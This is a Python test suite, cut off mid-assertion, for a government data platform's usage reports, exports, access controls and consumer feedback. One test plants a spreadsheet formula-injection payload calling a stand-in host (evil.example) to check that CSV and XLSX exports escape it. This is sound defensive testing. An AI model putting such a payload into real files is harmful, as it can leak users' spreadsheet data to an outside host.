"""Providers' usage reports (Art 24, oversight/usage.py): every figure against access records the test made itself
through the query API (several departments, purposes, grants, refusals, masks, China-time days around midnight),
the same on PostgreSQL, the same when counted record by record (archives), and who may see which figures: over
the console (pages, charts, exports), GraphQL and the command."""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import re
from datetime import UTC, date, datetime
from xml.etree import ElementTree

import httpx
import openpyxl
import pytest
from sqlalchemy import create_engine, insert, select, text

from admin import accounts, reports
from audit.records import AccessRecord
from audit.tables import access_records
from govshare.errors import GovshareError
from govshare.platformdb import make_engine, metadata
from oversight import charts, exports, feedback, usage
from oversight.usage import NONE, Figures, Period
from tests.conftest import TEST_DATABASE_PREFIX, World, _api, grant_in_force, make_settings, require_engine
from tests.test_cli import govshare_in_process
from tests.test_console import ORIGIN, PASSWORD, Console

PERSON = '{ person(idNumber: "371311197811261792") { idNumber name phone } }'
PERSONS = "{ personList(first: 5) { items { idNumber name countyCode } } }"
OTHER_COUNTY = '{ personList(first: 5, filter: {countyCode: {eq: "371302"}}) { items { name } } }'
ENTERPRISES = "{ enterpriseList(first: 3) { items { creditCode name legalRepIdNumber } } }"
LINKED = "{ enterpriseList(first: 3) { items { name legalRepresentative { name } } } }"
LICENCE, FOOD = "market.licence-review", "market.food-safety"
ENROLMENT, MARRIAGE, PROPERTY = "hrss.insurance-enrolment", "civil.marriage-registration", "land.property-registration"

BEFORE = datetime(2026, 11, 20, 4, 0, tzinfo=UTC)  # outside the period
SUNDAY_NIGHT = datetime(2026, 11, 29, 15, 30, tzinfo=UTC)  # China: Sunday 2026-11-29 23:30
MONDAY_EARLY = datetime(2026, 11, 29, 16, 30, tzinfo=UTC)  # China: Monday 2026-11-30 00:30
TUESDAY = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)  # China: Tuesday 2026-12-01 10:00
AFTER = datetime(2026, 12, 1, 16, 30, tzinfo=UTC)  # China: 2026-12-02 00:30, outside the period
WEEK = Period(date(2026, 11, 25), date(2026, 12, 1))
POLICE = ["police.person"]


async def make_usage(api, now: list[datetime]) -> dict[str, str]:
    """The accesses every test here counts (what each one records is said beside it); the grants they used."""
    grants = {g.consumer: g.id for g in api.app.state.runtime.policy.policies.grants if g.resource == "police.person"}
    steps = [
        (BEFORE, PERSON, "market", LICENCE),
        # police.person: partial (phone NOT_SHARED), 1 row x 2 items, under market's grant; twice
        (SUNDAY_NIGHT, PERSON, "market", LICENCE),
        (SUNDAY_NIGHT, PERSON, "market", LICENCE),
        (SUNDAY_NIGHT, PERSON, "market", FOOD),  # denied PURPOSE_NOT_APPROVED
        (MONDAY_EARLY, PERSONS, "hrss", ENROLMENT),  # allowed, 5 rows x 3 items, idNumber masked, hrss's grant
        (MONDAY_EARLY, OTHER_COUNTY, "hrss", ENROLMENT),  # denied OUT_OF_SCOPE
        (MONDAY_EARLY, ENTERPRISES, "land", PROPERTY),  # market.enterprise: partial (NO_GRANT), 3 rows x 2 items
        (TUESDAY, PERSONS, "civil", MARRIAGE),  # partial: idNumber, name GRANT_EXPIRED; 5 rows x countyCode
        # market.enterprise allowed 3 rows x name; police.person (link) allowed 3 rows x name, market's grant
        (TUESDAY, LINKED, "market", LICENCE),
        (AFTER, PERSONS, "hrss", ENROLMENT),
    ]
    for moment, query, department, purpose in steps:
        now[0] = moment
        await api.query(query, department, purpose)
    return grants


@pytest.fixture
async def used(own_world: World):
    """The app on a world of the test's own, after ``make_usage``; its grants used by consumer."""
    now = [BEFORE]
    async for api in _api(own_world, clock=lambda: now[0]):
        grants = await make_usage(api, now)
        yield api, grants


def F(**figures: int) -> Figures:
    return Figures(**figures)


# police.person in the week, access by access (see make_usage)
MARKET_PERSON = F(accesses=2, rows=2, values=4, partial=2, items_denied=2)
MARKET_FOOD = F(accesses=1, denied=1)
MARKET_LINK = F(accesses=1, rows=3, values=3, allowed=1)
HRSS_LIST = F(accesses=1, rows=5, values=15, allowed=1, masked=1, items_masked=1)
HRSS_REFUSED = F(accesses=1, denied=1)
CIVIL_LIST = F(accesses=1, rows=5, values=5, partial=1, items_denied=2)
POLICE_TOTAL = MARKET_PERSON + MARKET_FOOD + MARKET_LINK + HRSS_LIST + HRSS_REFUSED + CIVIL_LIST


async def figures(api, by, when=WEEK, resources=POLICE, **narrow) -> dict:
    async with api.app.state.runtime.engine.connect() as conn:
        return await usage.figures(conn, resources, when, by, **narrow)


async def test_each_figure_by_resource_department_purpose_and_grant(used):
    api, grants = used
    expected = F(
        accesses=7, rows=15, values=27, allowed=2, partial=3, denied=2, items_denied=4, masked=1, items_masked=1
    )
    assert expected == POLICE_TOTAL  # the sum of the accesses make_usage describes
    assert await figures(api, "resource") == {("police.person",): POLICE_TOTAL}
    assert await figures(api, "resource", resources=None) == {
        ("police.person",): POLICE_TOTAL,
        ("market.enterprise",): F(accesses=2, rows=6, values=9, allowed=1, partial=1, items_denied=1),
    }
    assert await figures(api, "department") == {
        ("market",): MARKET_PERSON + MARKET_FOOD + MARKET_LINK,
        ("hrss",): HRSS_LIST + HRSS_REFUSED,
        ("civil",): CIVIL_LIST,
    }
    assert await figures(api, "purpose") == {
        (LICENCE,): MARKET_PERSON + MARKET_LINK,
        (FOOD,): MARKET_FOOD,
        (ENROLMENT,): HRSS_LIST + HRSS_REFUSED,
        (MARRIAGE,): CIVIL_LIST,
    }
    assert await figures(api, "grant") == {
        (grants["market"],): MARKET_PERSON + MARKET_LINK,
        (grants["hrss"],): HRSS_LIST,
        (NONE,): MARKET_FOOD + HRSS_REFUSED + CIVIL_LIST,
    }
    assert await figures(api, "department", department="hrss") == {("hrss",): HRSS_LIST + HRSS_REFUSED}
    assert await figures(api, "grant", purpose=ENROLMENT) == {(grants["hrss"],): HRSS_LIST, (NONE,): HRSS_REFUSED}


async def test_refusals_by_code_and_refused_items_by_reason(used):
    api, _ = used
    assert await figures(api, "refusal") == {
        ("denied", "PURPOSE_NOT_APPROVED"): MARKET_FOOD,
        ("denied", "OUT_OF_SCOPE"): HRSS_REFUSED,
    }
    assert await figures(api, "denied_item") == {
        ("phone", "NOT_SHARED"): MARKET_PERSON,
        ("idNumber", "GRANT_EXPIRED"): CIVIL_LIST,
        ("name", "GRANT_EXPIRED"): CIVIL_LIST,
    }


async def test_days_weeks_and_months_are_china_time_and_the_period_bounds_are_its_days(used):
    api, _ = used
    sunday = MARKET_PERSON + MARKET_FOOD
    monday = HRSS_LIST + HRSS_REFUSED
    tuesday = CIVIL_LIST + MARKET_LINK
    assert await figures(api, "period") == {("2026-11-29",): sunday, ("2026-11-30",): monday, ("2026-12-01",): tuesday}
    weekly = Period(WEEK.first, WEEK.last, "week")
    assert await figures(api, "period", weekly) == {("2026-11-23",): sunday, ("2026-11-30",): monday + tuesday}
    monthly = Period(WEEK.first, WEEK.last, "month")
    assert await figures(api, "period", monthly) == {("2026-11-01",): sunday + monday, ("2026-12-01",): tuesday}
    # the trend table has every bucket of the period, in order, the empty ones as zeros
    async with api.app.state.runtime.engine.connect() as conn:
        trend = await usage.table(conn, "trend", POLICE, WEEK)
    assert [k for k, _ in trend.rows] == [(f"2026-11-{d}",) for d in range(25, 31)] + [("2026-12-01",)]
    assert trend.rows[0][1] == Figures() and trend.total() == POLICE_TOTAL
    # one China day: Monday alone, though Monday 00:30 is Sunday in UTC
    assert await figures(api, "resource", Period(date(2026, 11, 30), date(2026, 11, 30))) == {
        ("police.person",): monday
    }
    # the days after: the access at 00:30 on 12-02 China time is there, none before it
    assert await figures(api, "resource", Period(date(2026, 12, 2), date(2026, 12, 31))) == {
        ("police.person",): HRSS_LIST
    }


async def test_top_purposes_come_most_used_first(used):
    api, _ = used
    async with api.app.state.runtime.engine.connect() as conn:
        purposes = await usage.table(conn, "purposes", POLICE, WEEK)
    assert [k for k, _ in purposes.rows] == [(LICENCE,), (ENROLMENT,), (MARRIAGE,), (FOOD,)]


async def test_counted_record_by_record_gives_the_same_figures(used):
    """``fold`` (how archived records will be counted) against the database's GROUP BY, every dimension."""
    api, _ = used
    async with api.app.state.runtime.engine.connect() as conn:
        records = (await conn.execute(select(access_records))).mappings().all()
    inside = [r for r in records if WEEK.since <= r["at"] < WEEK.until and r["resource"] == "police.person"]
    for by in usage.DIMENSIONS:
        for granularity in usage.GRANULARITIES:
            when = Period(WEEK.first, WEEK.last, granularity)
            assert usage.fold(inside, by, granularity) == await figures(api, by, when), (by, granularity)


async def test_tables_counted_together_are_the_tables_counted_one_by_one(used):
    """``usage.tables`` sums the tables keyed by one column from one GROUP BY over the three: the same rows, in the
    same order, as ``usage.table`` makes each of them alone, whatever the resources and the buckets."""
    api, _ = used
    async with api.app.state.runtime.engine.connect() as conn:
        for resources in (POLICE, None, ["market.enterprise", "police.person"], ["police.household"]):
            for granularity in usage.GRANULARITIES:
                when = Period(WEEK.first, WEEK.last, granularity)
                together = await usage.tables(conn, list(usage.TABLES), resources, when)
                for name in usage.TABLES:
                    alone = await usage.table(conn, name, resources, when)
                    assert together[name] == alone, (name, resources, granularity)
        assert (await usage.tables(conn, ["purposes", "departments"], None, WEEK))["purposes"].rows  # some figures
        with pytest.raises(GovshareError) as unknown:
            await usage.tables(conn, ["resources", "nothing"], None, WEEK)
        assert unknown.value.code == "USAGE_TABLE_UNKNOWN"


@pytest.fixture
def postgres_platform(tmp_path, request):
    require_engine(make_settings(tmp_path), "postgres")
    name = f"{TEST_DATABASE_PREFIX}usage_{abs(hash(request.node.nodeid)) % 10**8}"
    admin = create_engine("postgresql+psycopg://postgres@127.0.0.1:5432/postgres", isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
        conn.execute(text(f"CREATE DATABASE {name}"))
    try:
        yield f"postgresql+asyncpg://postgres@127.0.0.1:5432/{name}"
    finally:
        with admin.connect() as conn:
            conn.execute(text(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
        admin.dispose()


async def test_postgresql_counts_the_same_records_the_same(used, postgres_platform):
    api, _ = used
    async with api.app.state.runtime.engine.connect() as conn:
        records = [dict(r) for r in (await conn.execute(select(access_records))).mappings().all()]
    engine = make_engine(postgres_platform)
    try:
        async with engine.begin() as conn:
            await conn.run_sync(metadata.create_all)
            await conn.execute(insert(access_records), records)
        for by in usage.DIMENSIONS:
            for granularity in usage.GRANULARITIES:
                when = Period(WEEK.first, WEEK.last, granularity)
                for resources in (POLICE, None):
                    async with engine.connect() as conn:
                        found = await usage.figures(conn, resources, when, by)
                    assert found == await figures(api, by, when, resources), (by, granularity, resources)
                    assert found  # not two empty answers
    finally:
        await engine.dispose()


def test_a_period_from_what_was_typed_or_a_coded_refusal():
    today = date(2026, 12, 1)
    assert usage.period(None, None, None, today=today) == Period(date(2026, 11, 2), today, "day")
    assert usage.period("2026-01-01", "2026-03-31", "month", today=today) == Period(
        date(2026, 1, 1), date(2026, 3, 31), "month"
    )
    for first, last, granularity, code in [
        ("2026-13-01", None, None, "USAGE_BAD_DATE"),
        ("2026-12-02", "2026-12-01", None, "USAGE_BAD_PERIOD"),
        (None, None, "year", "USAGE_BAD_GRANULARITY"),
        ("2020-01-01", "2026-01-01", None, "PERIOD_TOO_LONG"),
    ]:
        with pytest.raises(GovshareError) as refused:
            usage.period(first, last, granularity, today=today)
        assert refused.value.code == code


# --- the console: pages, charts, exports, and who sees what -------------------------------------------------


@pytest.fixture
async def console(used):
    """``used``'s app with three staff accounts (the office's, police's and market's catalog staff) and a browser
    for each."""
    api, grants = used
    runtime = api.app.state.runtime
    async with runtime.engine.begin() as conn:
        for username, department in (("office", None), ("police.staff", "police"), ("market.staff", "market")):
            await accounts.create_account(conn, runtime.settings, username, PASSWORD, username, department=department)
    browsers = {}
    async with contextlib.AsyncExitStack() as stack:
        for username in ("office", "police.staff", "market.staff"):
            client = await stack.enter_async_context(
                httpx.AsyncClient(transport=httpx.ASGITransport(app=api.app), base_url=ORIGIN)
            )
            browsers[username] = Console(client)
            assert (await browsers[username].sign_in(username, PASSWORD)).status_code == 303
        yield api, grants, browsers


PERIOD = "from=2026-11-25&to=2026-12-01"


def html_table(page: str, name: str) -> list[list[str]]:
    """The cells of table ``name`` on a page (header first), as text."""
    found = re.search(rf'<table id="table-{name}">(.*?)</table>', page, re.S)
    assert found, name
    return [
        [html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", found.group(1), re.S)
    ]


def named(api, kind: str, code: str) -> str:
    """How the console names a resource or department: its catalog name with its code."""
    catalog = api.app.state.runtime.catalog
    return f"{(catalog.resources if kind == 'resource' else catalog.departments)[code].name}（{code}）"


def figures_of(cells: list[list[str]], key: str) -> Figures:
    """The figures of the row of ``cells`` whose first cell is ``key``."""
    (row,) = [r for r in cells[1:] if r[0] == key]
    return Figures(*(int(v) for v in row[-len(usage.FIGURES) :]))


async def test_the_office_sees_every_departments_resources_with_charts_and_tables(console):
    api, grants, browsers = console
    page = await browsers["office"].client.get(f"/console/usage?{PERIOD}")
    assert page.status_code == 200, page.text
    assert "script-src 'none'" in page.headers["content-security-policy"] and "<script" not in page.text
    resources = html_table(page.text, "resources")
    assert figures_of(resources, named(api, "resource", "police.person")) == POLICE_TOTAL
    assert figures_of(resources, named(api, "resource", "market.enterprise")).accesses == 2
    for name in reports.TABLES:  # every table with its chart and both exports, the feedback's too
        assert (
            f'src="/console/usage/chart.svg?from=2026-11-25&amp;to=2026-12-01&amp;granularity=day&amp;table={name}'
            in page.text
        )
        assert f'id="export-{name}-csv"' in page.text and f'id="export-{name}-xlsx"' in page.text
    departments = html_table(page.text, "departments")
    assert figures_of(departments, named(api, "department", "land")).accesses == 1  # land read market.enterprise only
    english = await browsers["office"].client.get(f"/console/usage?{PERIOD}&lang=en&provider=police")
    assert "Usage reports (Art 24)" in english.text and "Consumer department" in english.text


async def test_a_departments_staff_sees_its_own_resources_only(console):
    api, grants, browsers = console
    police = browsers["police.staff"].client
    page = await police.get(f"/console/usage?{PERIOD}")
    assert page.status_code == 200, page.text
    assert figures_of(html_table(page.text, "resources"), named(api, "resource", "police.person")) == POLICE_TOTAL
    # market.enterprise, and land, which read only it, are nowhere on the page
    catalog = api.app.state.runtime.catalog
    hidden = (catalog.resources["market.enterprise"].name, catalog.departments["land"].name)
    for absent in ("market.enterprise", *hidden, "land", "NO_GRANT"):
        assert absent not in page.text, absent
    grants_table = html_table(page.text, "grants")
    assert figures_of(grants_table, grants["market"]) == MARKET_PERSON + MARKET_LINK
    market = await browsers["market.staff"].client.get(f"/console/usage?{PERIOD}")
    assert figures_of(html_table(market.text, "resources"), named(api, "resource", "market.enterprise")).accesses == 2
    assert "police.person" not in market.text and "PURPOSE_NOT_APPROVED" not in market.text


ATTACKS = [
    "provider=market",
    "resource=market.enterprise",
    "provider=police&resource=market.enterprise",
    "provider=market&resource=police.person",
    "provider=&resource=market.enterprise",
]


async def test_no_filter_chart_or_export_url_shows_another_departments_figures(console):
    api, grants, browsers = console
    catalog = api.app.state.runtime.catalog
    hidden = (catalog.resources["market.enterprise"].name, catalog.departments["land"].name, "NO_GRANT", "<svg")
    for path in (
        "/console/usage",
        "/console/usage/chart.svg",
        "/console/usage/export.csv",
        "/console/usage/export.xlsx",
    ):
        for attack in ATTACKS:
            answer = await browsers["police.staff"].client.get(f"{path}?{PERIOD}&table=resources&{attack}")
            assert (answer.status_code, "USAGE_NOT_YOURS" in answer.text) == (403, True), (path, attack)
            assert not any(figure in answer.text for figure in hidden), (path, attack)


async def test_signed_out_or_unknown_questions_are_refused(console):
    api, grants, browsers = console
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=api.app), base_url=ORIGIN) as anonymous:
        for path in (
            "/console/usage",
            "/console/usage/chart.svg?table=resources",
            "/console/usage/export.csv?table=resources",
        ):
            answer = await anonymous.get(path)
            assert answer.status_code == 303 and answer.headers["location"] == "/console/login"
    office = browsers["office"].client
    for query, code, status in [
        ("table=nothing", "USAGE_TABLE_UNKNOWN", 400),
        ("table=resources&from=2026-02-30", "USAGE_BAD_DATE", 400),
        ("table=resources&granularity=hour", "USAGE_BAD_GRANULARITY", 400),
        ("table=resources&provider=nobody", "USAGE_PROVIDER_UNKNOWN", 400),
        ("table=resources&resource=no.such", "USAGE_RESOURCE_UNKNOWN", 400),
    ]:
        answer = await office.get(f"/console/usage/chart.svg?{query}")
        assert (answer.status_code, code in answer.text) == (status, True), (query, answer.text[:300])
    assert (await office.get("/console/usage/export.pdf?table=resources")).status_code == 404


async def test_a_chart_is_svg_without_script_drawing_the_tables_figures(console):
    api, grants, browsers = console
    chart = await browsers["police.staff"].client.get(f"/console/usage/chart.svg?{PERIOD}&table=departments")
    assert chart.status_code == 200
    assert chart.headers["content-type"].startswith(charts.SVG_MEDIA_TYPE)
    for header, value in charts.SVG_HEADERS.items():
        assert chart.headers[header] == value
    tree = ElementTree.fromstring(chart.text)
    tags = {element.tag.rsplit("}", 1)[-1] for element in tree.iter()}
    assert "script" not in tags and "foreignObject" not in tags
    assert not any(name.startswith("on") for element in tree.iter() for name in element.attrib)
    texts = [element.text for element in tree.iter() if element.text]
    for department in ("market", "hrss", "civil"):
        assert named(api, "department", department) in texts
    assert "land" not in chart.text  # a consumer of market's resources only
    assert {"4", "2", "1"} <= set(texts)  # market's, hrss's and civil's accesses, printed on the bars


async def test_every_export_holds_exactly_the_table(console):
    api, grants, browsers = console
    office = browsers["office"].client
    page = await office.get(f"/console/usage?{PERIOD}&granularity=week")
    for name in reports.TABLES:
        shown = html_table(page.text, name)
        if len(shown) == 2 and len(shown[1]) == 1:  # "no accesses in the period"
            shown = shown[:1]
        exported = await office.get(f"/console/usage/export.csv?{PERIOD}&granularity=week&table={name}")
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        assert "attachment" in exported.headers["content-disposition"]
        assert exported.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert rows == shown, name
        book = await office.get(f"/console/usage/export.xlsx?{PERIOD}&granularity=week&table={name}")
        sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
        cells = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
        assert cells == shown, name
    trend = html_table(page.text, "trend")
    assert [r[0] for r in trend[1:]] == ["2026-11-23", "2026-11-30"]


async def test_texts_that_would_start_a_formula_are_exported_escaped(console):
    """A purpose is the caller's text: one made to look like a formula is written as text, in both exports."""
    api, grants, browsers = console
    runtime = api.app.state.runtime
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    record = AccessRecord(
        at=TUESDAY,
        request_id="r-hostile",
        trace_id="0" * 32,
        department="market",
        application="a",
        key_id="k",
        operator=None,
        purpose=hostile,
        resource="police.person",
        operation="list",
        outcome="denied",
        error_code="@SUM(1)",
    )
    await runtime.audit.write([record])
    office = browsers["office"].client
    exported = await office.get(f"/console/usage/export.csv?{PERIOD}&table=purposes&provider=police")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert ["'" + hostile] in [r[:1] for r in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    book = await office.get(f"/console/usage/export.xlsx?{PERIOD}&table=refusals&provider=police")
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    values = [c for row in sheet.iter_rows() for c in row]
    assert "'@SUM(1)" in [c.value for c in values]
    assert all(c.data_type in ("s", "n") for c in values)  # no formula cell


def test_a_formula_start_is_escaped_and_nothing_else_changes():
    for text_ in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert exports.safe(text_) == "'" + text_
    for kept in ("1", "a=b", "人口", 5, -3):
        assert exports.safe(kept) == kept


# --- GraphQL: usageReport -----------------------------------------------------------------------------------

REPORT = """query($provider: String, $resource: String, $granularity: String!) {
  usageReport(provider: $provider, resource: $resource, from: "2026-11-25", to: "2026-12-01", granularity: $granularity) {
    provider first last granularity
    resources { resource ...F } trend { period ...F } departments { department ...F } purposes { purpose ...F }
    grants { grant ...F } refusals { outcome errorCode ...F } deniedItems { item reason ...F } } }
fragment F on UsageRow { accesses rows values allowed partial denied failed itemsDenied masked itemsMasked }"""


def graphql_figures(row: dict) -> Figures:
    names = {"itemsDenied": "items_denied", "itemsMasked": "items_masked"}
    return Figures(**{names.get(k, k): v for k, v in row.items() if k in usage.FIGURES or k in names})


async def report(api, department: str, **variables) -> dict:
    return await api.query(REPORT, department, None, variables={"granularity": "day", **variables})


async def test_usage_report_over_graphql_gives_the_same_figures(used):
    api, grants = used
    answer = await report(api, "police", granularity="week")
    assert "errors" not in answer, answer
    found = answer["data"]["usageReport"]
    assert (found["provider"], found["first"], found["last"], found["granularity"]) == (
        "police",
        "2026-11-25",
        "2026-12-01",
        "week",
    )
    catalog = api.app.state.runtime.catalog
    own = sorted(code for code, r in catalog.resources.items() if r.provider == "police")
    assert len(own) > 1  # every one of police's resources is there, those unused as zeros
    assert {r["resource"]: graphql_figures(r) for r in found["resources"]} == {
        code: POLICE_TOTAL if code == "police.person" else Figures() for code in own
    }
    assert [(r["period"], graphql_figures(r)) for r in found["trend"]] == [
        ("2026-11-23", MARKET_PERSON + MARKET_FOOD),
        ("2026-11-30", HRSS_LIST + HRSS_REFUSED + CIVIL_LIST + MARKET_LINK),
    ]
    assert {r["department"]: graphql_figures(r) for r in found["departments"]} == {
        "market": MARKET_PERSON + MARKET_FOOD + MARKET_LINK,
        "hrss": HRSS_LIST + HRSS_REFUSED,
        "civil": CIVIL_LIST,
    }
    assert [r["purpose"] for r in found["purposes"]] == [LICENCE, ENROLMENT, MARRIAGE, FOOD]
    assert {r["grant"]: graphql_figures(r) for r in found["grants"]} == {
        grants["market"]: MARKET_PERSON + MARKET_LINK,
        grants["hrss"]: HRSS_LIST,
        None: MARKET_FOOD + HRSS_REFUSED + CIVIL_LIST,
    }
    assert {(r["outcome"], r["errorCode"]) for r in found["refusals"]} == {
        ("denied", "PURPOSE_NOT_APPROVED"),
        ("denied", "OUT_OF_SCOPE"),
    }
    assert {(r["item"], r["reason"]): r["accesses"] for r in found["deniedItems"]} == {
        ("phone", "NOT_SHARED"): 2,
        ("idNumber", "GRANT_EXPIRED"): 1,
        ("name", "GRANT_EXPIRED"): 1,
    }


async def test_usage_report_shows_a_department_its_own_resources_and_overseers_everything(used):
    api, grants = used
    catalog = api.app.state.runtime.catalog
    market = (await report(api, "market"))["data"]["usageReport"]
    assert {r["resource"] for r in market["resources"] if r["accesses"]} == {"market.enterprise"}
    assert {r["resource"] for r in market["resources"]} <= {
        c for c, r in catalog.resources.items() if r.provider == "market"
    }
    assert {r["department"] for r in market["departments"]} == {"land", "market"}
    for variables in (
        {"provider": "police"},
        {"resource": "police.person"},
        {"provider": "market", "resource": "police.person"},
    ):
        refused = await report(api, "market", **variables)
        assert refused["data"] is None and refused["errors"][0]["extensions"]["code"] == "USAGE_NOT_YOURS", variables
        assert not any(figure in json.dumps(refused) for figure in ("OUT_OF_SCOPE", "hrss", grants["hrss"]))
    assert not any(r["accesses"] for r in (await report(api, "hrss"))["data"]["usageReport"]["resources"])
    everything = (await report(api, "bigdata"))["data"]["usageReport"]  # coordinator and auditor
    assert everything["provider"] is None
    assert {r["resource"]: graphql_figures(r) for r in everything["resources"]}["police.person"] == POLICE_TOTAL
    assert {r["resource"] for r in everything["resources"] if r["accesses"]} == {"police.person", "market.enterprise"}
    one = (await report(api, "bigdata", provider="market"))["data"]["usageReport"]
    assert one["resources"] == market["resources"]
    unknown = await report(api, "bigdata", provider="nobody")
    assert unknown["errors"][0]["extensions"]["code"] == "USAGE_PROVIDER_UNKNOWN"
    bad = await api.query(
        REPORT.replace('"2026-11-25"', '"2026-12-25"'), "police", None, variables={"granularity": "day"}
    )
    assert bad["errors"][0]["extensions"]["code"] == "USAGE_BAD_PERIOD"


# --- the command ------------------------------------------------------------------------------------------


async def test_the_command_exports_the_same_tables(console, tmp_path):
    api, grants, browsers = console
    page = await browsers["office"].client.get(f"/console/usage?{PERIOD}&provider=police&granularity=month")
    folder = api.app.state.runtime.settings.var_dir.parent
    book = tmp_path / "police.xlsx"
    args = ("report", "usage", "--department", "police", "--from", "2026-11-25", "--to", "2026-12-01")
    made = govshare_in_process(folder, *args, "--granularity", "month", "--format", "xlsx", "--out", str(book))
    assert made.returncode == 0, made.stderr
    workbook = openpyxl.load_workbook(book)
    assert len(workbook.sheetnames) == len(reports.TABLES)  # the usage tables and the feedback beside them
    for name, sheet in zip(reports.TABLES, workbook.worksheets, strict=True):
        cells = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
        shown = html_table(page.text, name)
        assert cells == (shown[:1] if len(shown) == 2 and len(shown[1]) == 1 else shown), name
    printed = govshare_in_process(folder, *args, "--table", "departments")
    assert printed.returncode == 0, printed.stderr
    rows = list(csv.reader(io.StringIO(printed.stdout.removeprefix("\ufeff"))))
    assert rows == html_table(
        (await browsers["office"].client.get(f"/console/usage?{PERIOD}&provider=police")).text, "departments"
    )
    refused = govshare_in_process(folder, "report", "usage", "--department", "nobody")
    assert refused.returncode != 0 and "USAGE_PROVIDER_UNKNOWN" in refused.stderr


# --- the consumers' feedback beside the usage (Art 24) -----------------------------------------------------

MARKET_NOTE, HRSS_NOTE, HRSS_LATER = "营业执照审查免交户籍证明", "参保登记免交户口簿", "+十二月减少材料"
LAND_NOTE, LAND_MARKET_NOTE = "不动产登记核验户籍", "企业信息核验免交执照复印件"
# The rows police's report of WEEK shows (see ``fed``): grant (by consumer), month, its usage in the month's days of
# WEEK, the feedback reported (matters, documents, note), or None. Sorted by consumer, then month.
NOT_REPORTED = None


@pytest.fixture
async def fed(console):
    """``console`` after feedback: market and hrss on their police.person grants, land on a police.person grant it
    never used and on a market.enterprise grant (market's resource). The grants by (consumer, resource)."""
    from tests.test_feedback import _record

    api, grants, browsers = console
    held = {(consumer, "police.person"): grant for consumer, grant in grants.items()}
    held["land", "police.person"] = await grant_in_force(api, "land", ["name"], [PROPERTY])
    held["land", "market.enterprise"] = await grant_in_force(
        api, "land", ["name"], [PROPERTY], resource="market.enterprise"
    )
    for (consumer, resource), period, matters, documents, note in [
        (("market", "police.person"), "2026-11", 12, 4, MARKET_NOTE),
        (("hrss", "police.person"), "2026-11", 30, 9, HRSS_NOTE),
        (("hrss", "police.person"), "2026-12", 7, 2, HRSS_LATER),
        (("land", "police.person"), "2026-12", 3, 1, LAND_NOTE),
        (("land", "market.enterprise"), "2026-11", 5, 5, LAND_MARKET_NOTE),
        (("market", "police.person"), "2026-10", 99, 99, "十月：报告期间之外"),  # a month the period does not touch
    ]:
        answer = await _record(api, consumer, held[consumer, resource], period, matters, documents, note)
        assert "errors" not in answer, answer
    yield api, held, browsers


def police_rows(held) -> list[tuple[str, str, str, Figures, tuple[int, int, str] | None]]:
    """(grant, consumer, month, usage, feedback) of police's report of WEEK, in the report's order."""
    market, hrss, land = (held[c, "police.person"] for c in ("market", "hrss", "land"))
    return [
        (hrss, "hrss", "2026-11", HRSS_LIST, (30, 9, HRSS_NOTE)),
        (hrss, "hrss", "2026-12", Figures(), (7, 2, HRSS_LATER)),  # its access of 12-02 is after the period
        (land, "land", "2026-12", Figures(), (3, 1, LAND_NOTE)),  # reported on, never used
        # the period's November days only: the access of 11-20 under the same grant is not counted
        (market, "market", "2026-11", MARKET_PERSON, (12, 4, MARKET_NOTE)),
        (market, "market", "2026-12", MARKET_LINK, NOT_REPORTED),  # used, not reported on
    ]


def as_rows(found: list[feedback.GrantMonth]) -> list[tuple]:
    return [
        (
            m.grant,
            m.consumer,
            m.month,
            m.usage,
            None if m.feedback is None else (m.feedback.matters_handled, m.feedback.documents_spared, m.feedback.note),
        )
        for m in found
    ]


async def test_each_grants_feedback_is_beside_its_usage_in_the_month(fed):
    api, held, _ = fed
    async with api.app.state.runtime.engine.connect() as conn:
        police = await feedback.beside_usage(conn, POLICE, WEEK, provider="police")
        everything = await feedback.beside_usage(conn, None, WEEK, provider=None)
        market = await feedback.beside_usage(conn, ["market.enterprise"], WEEK, provider="market")
        november = await feedback.beside_usage(
            conn, POLICE, Period(date(2026, 11, 1), date(2026, 11, 30)), provider="police"
        )
    assert {m.resource for m in police} == {"police.person"}
    assert as_rows(police) == police_rows(held)
    land_market = held["land", "market.enterprise"]
    assert [r for r in as_rows(market) if r[0] == land_market] == [
        (land_market, "land", "2026-11", Figures(), (5, 5, LAND_MARKET_NOTE))  # granted after land's access
    ]
    assert as_rows(everything) == as_rows(market) + as_rows(police)  # market.enterprise sorts first
    # the whole of November: the access of 11-20 counts now, December's feedback is outside
    assert [r for r in as_rows(november) if r[1] == "market"] == [
        (
            held["market", "police.person"],
            "market",
            "2026-11",
            MARKET_PERSON + F(accesses=1, rows=1, values=2, partial=1, items_denied=1),
            (12, 4, MARKET_NOTE),
        )
    ]


def feedback_cells(api, held) -> list[list[str]]:
    """Police's feedback table as the page shows it (header left out)."""
    rows = []
    for grant, consumer, month, figures, reported in police_rows(held):
        matters, documents, note = ("", "", "（未报送）") if reported is None else (str(v) for v in reported)
        usage_cells = [str(getattr(figures, f)) for f in reports.FEEDBACK_FIGURES]
        resource = named(api, "resource", "police.person")
        rows.append(
            [grant, named(api, "department", consumer), resource, month, matters, documents, note, *usage_cells]
        )
    return rows


async def test_the_usage_page_shows_the_feedback_beside_the_usage_with_its_chart_and_exports(fed):
    api, held, browsers = fed
    police = browsers["police.staff"].client
    page = await police.get(f"/console/usage?{PERIOD}")
    assert page.status_code == 200, page.text
    shown = html_table(page.text, "feedback")
    assert shown[0] == [
        "共享授权",
        "使用部门",
        "资源",
